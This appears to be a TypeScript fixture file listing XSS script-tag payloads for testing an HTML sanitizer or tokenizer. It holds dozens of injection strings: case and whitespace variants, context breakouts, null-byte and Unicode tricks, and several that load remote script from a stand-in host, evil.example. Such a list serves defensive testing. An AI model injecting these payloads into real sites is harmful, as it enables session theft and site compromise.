import { vectorLines } from './vector-lines.ts'

/** Script elements in every spelling that a tokenizer may accept, and markup that hides them. */
export const scriptVectors: string[] = [
  ...vectorLines(`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script/x>
<script src="https://evil.example/x.js"></script>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,alert(1)"></script>
<script type="module">import 'https://evil.example/x.js'</script>
<script type="text/plain">alert(1)</script>
<script type="importmap">{"imports":{"x":"//evil.example"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>
<script defer async crossorigin nonce="x">alert(1)</script>
<script>alert(1)
<script
<script x
<script>//<!--</script><script>alert(1)</script>
<script><!--alert(1)--></script>
<script>/*</script><script>*/alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<scri<script></script>pt>alert(1)</script>
<<script>alert(1)//<</script>
<script<script>>alert(1)</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
*/</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</pre></code></p></div><script>alert(1)</script>
<p><script>alert(1)</script></p>
<b><i><u><script>alert(1)</script></u></i></b>
<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<script language="vbscript">MsgBox 1</script>
<script for="window" event="onload">alert(1)</script>
<script>alert(1)</script
<script>alert(1)</scrip
<script/>alert(1)
<script src=x onerror=alert(1)>
<noscript><script>alert(1)</script></noscript>
<details open><script>alert(1)</script></details>
<table><script>alert(1)</script></table>
<table><tr><td><script>alert(1)</script></td></tr></table>
<ul><li><script>alert(1)</script></li></ul>
<h1><script>alert(1)</script></h1>
<kbd><script>alert(1)</script></kbd>
<a href="/x"><script>alert(1)</script></a>
`),
  '<script\n>alert(1)</script\n>',
  '<script\t>alert(1)</script\t>',
  '<script\f>alert(1)</script\f>',
  '<\u0000script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<script\u0000>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '<\ufeffscript>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '<script\u2028>alert(1)</script>',
]
